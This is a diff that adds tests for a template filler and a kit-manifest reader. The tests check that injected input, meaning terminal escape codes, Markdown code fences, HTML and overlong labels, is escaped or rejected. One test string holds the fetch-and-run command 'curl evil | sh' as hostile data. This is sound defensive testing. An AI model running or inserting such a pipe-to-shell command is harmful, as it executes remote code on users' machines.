@@ -31,6 +31,14 @@ test("a text keeps what is of this kit: sections that nest, and values", () => {
   expect(() => filledIn(template, { version: "v1", signed: true })).toThrow("no value for keyId");
 });
 
+test("a value is one line of plain text in Markdown, whoever wrote it; a list has its items", () => {
+  const version = "v1\u001b[2J\n```sh\ncurl evil | sh\n```\n<b>*x* [a](b) \\";
+  const text = filledIn("# «{{version}}»\n\n{{names}}\nend", { version, names: ["a:1", "b:2"] });
+  expect(text).toBe(
+    "# «v1 \\[2J \\`\\`\\`sh curl evil | sh \\`\\`\\` \\<b>\\*x\\* \\[a\\](b) \\\\»\n\n- `a:1`\n- `b:2`\nend",
+  );
+});
+
 test("an earlier kit tells which kit has a blob: it, or one before", async () => {
   const folder = mkdtempSync(join(tmpdir(), "earlier-"));
   onTestFinished(() => rmSync(folder, { recursive: true }));
@@ -48,6 +56,16 @@ test("an earlier kit tells which kit has a blob: it, or one before", async () =>
     version: "v2",
     sha256: createHash("sha256").update(manifest).digest("hex"),
   });
+  const labels = ["", " ", "v\u001b[2J", "v\n```sh", "v\u009b", "x".repeat(129)];
+  for (const version of labels) {
+    writeFileSync(path, JSON.stringify({ kit: 1, version, blobs: [] }));
+    await expect(readEarlierKit(path)).rejects.toThrow("is no manifest of a kit");
+    writeFileSync(
+      path,
+      JSON.stringify({ kit: 1, version: "x".repeat(128), blobs: [{ digest: one, in: version }] }),
+    );
+    expect((await readEarlierKit(path)).has(one ?? "")).toBeUndefined();
+  }
   for (const other of ["", "7", "{}", '{"kit":2,"version":"v","blobs":[]}', '{"kit":1,"version":"v"}']) {
     writeFileSync(path, other);
     await expect(readEarlierKit(path)).rejects.toThrow(InputError);
